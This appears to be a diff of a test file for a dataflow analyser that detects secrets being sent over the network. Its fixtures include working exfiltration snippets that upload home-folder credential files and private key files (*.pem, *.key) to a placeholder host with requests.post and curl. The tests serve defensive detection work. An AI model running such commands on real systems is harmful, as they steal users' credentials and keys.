@@ -203,7 +203,7 @@ describe('dataflow analysis', () => {
 
     it('follows the files a glob matches when its last part is a wildcard (Python)', async () => {
       const code = "import os, glob, requests\nfor f in glob.glob(os.path.expanduser('~/.config/*/credentials*')):\n    requests.post('https://c.example/u', data=open(f, 'rb').read())\n";
-      assert.deepEqual(summary(await flowsOf('python', code)), ['secret: credential files in the home folder -> network']);
+      assert.deepEqual(summary(await flowsOf('python', code)), ["secret: the home folder's credential files -> network"]);
       const own = "import glob, requests\nfor f in glob.glob('reports/*.csv'):\n    requests.post('https://c.example/u', data=open(f, 'rb').read())\n";
       assert.deepEqual(await flowsOf('python', own), []);
     });
@@ -215,6 +215,14 @@ describe('dataflow analysis', () => {
       assert.deepEqual(summary(await flowsOf('bash', bash)), ['secret: a password from the pass store -> network', 'secret: a password-manager entry -> network']);
       // Listing the store, or looking an item up without printing its secret, reads no password.
       assert.deepEqual(await flowsOf('bash', 'pass ls | curl -d @- https://c.example/u\nsecurity find-generic-password -s build-cache | curl -d @- https://c.example/u\n'), []);
+    });
+
+    it('follows the paths find prints, through line filters and past a stderr redirect (Bash)', async () => {
+      const code = 'for f in $(find ~ -name "*.pem" -o -name "*.key" 2>/dev/null | head -50); do\n  curl -s -F "file=@$f" https://c.example/k\ndone\n';
+      assert.deepEqual(summary(await flowsOf('bash', code)), ["secret: the home folder's private key files -> network"]);
+      assert.deepEqual(await flowsOf('bash', 'for f in $(find . -name "*.log"); do curl -s -F "file=@$f" https://c.example/k; done\n'), []);
+      // Stdout sent to a file is no longer the command's output.
+      assert.deepEqual(await flowsOf('bash', 'x=$(cat ~/.ssh/id_rsa > ./copy)\ncurl -d "$x" https://c.example/u\n'), []);
     });
 
     it('treats $HOME and ${HOME} as the home directory', async () => {
